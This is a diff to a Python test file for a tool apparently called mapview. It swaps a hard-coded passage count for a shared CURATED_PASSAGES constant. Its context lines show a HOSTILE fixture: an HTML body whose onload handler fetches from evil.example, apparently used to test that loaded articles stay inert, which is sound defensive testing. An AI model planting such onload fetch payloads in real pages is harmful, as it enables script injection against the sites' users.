@@ -12,6 +12,7 @@ from mapview.data.anchors import anchor_quote, make_anchor, resolve
 from mapview.data.problems import Problem, inert
 from mapview.data.project import ProjectPaths, load_project
 from mapview.data.sources import read_article
+from tests.conftest import CURATED_PASSAGES
 
 HOSTILE = (
     "<html><body onload=\"fetch('http://evil.example/x')\">\n"
@@ -94,7 +95,7 @@ def test_ten_megabyte_article_in_seeds_leaves_the_rest_sound(data_copy: ProjectP
     project = load_project(data_copy)
     [problem] = [p for p in project.problems if p.file == str(path)]
     assert "10,000,000 bytes; the limit is 2,000,000" in problem.message
-    assert project.verified_passages == 50 and project.broken_claims == 0
+    assert project.verified_passages == CURATED_PASSAGES and project.broken_claims == 0
 
 
 def test_one_and_a_half_megabyte_single_line_loads_and_anchors(tmp_path: Path) -> None:
